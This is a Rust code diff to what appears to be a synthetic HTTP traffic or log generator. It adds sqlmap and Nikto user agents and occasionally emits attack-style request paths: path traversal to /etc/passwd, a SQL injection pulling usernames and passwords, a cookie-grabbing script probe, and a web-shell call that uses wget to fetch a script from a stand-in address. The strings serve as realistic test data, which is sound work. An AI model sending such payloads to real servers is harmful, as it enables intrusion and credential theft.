@@ -27,6 +27,8 @@ const USER_AGENTS: &[&str] = &[
     "python-requests/2.31.0",
     "Wget/1.21.3",
     "Go-http-client/1.1",
+    "sqlmap/1.7.2#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
 ];
 
 /// A host name of two to four labels (`www.example.com`, `api.acme-corp.co.uk`).
@@ -84,6 +86,21 @@ fn uri(r: &mut SplitMix64) -> String {
         14 => "/login".into(),
         _ => format!("/{}/{}", word(r), word(r)),
     };
+    if r.below(50) == 0 {
+        // What scanners and attacks send, as on any network facing the Internet.
+        return r
+            .pick(&[
+                "/index.php?page=../../../../etc/passwd",
+                "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+                "/cgi-bin/../../../../bin/sh",
+                "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
+                "/q?x=<script>alert(document.cookie)</script>",
+                "/phpmyadmin/index.php",
+                "/.git/config",
+                "/shell.php?cmd=wget%20http://198.51.100.7/x.sh",
+            ])
+            .to_string();
+    }
     let query = match r.below(10) {
         0..=4 => String::new(),
         5 => format!("?q={}+{}&page={}", word(r), word(r), r.range(1, 20)),
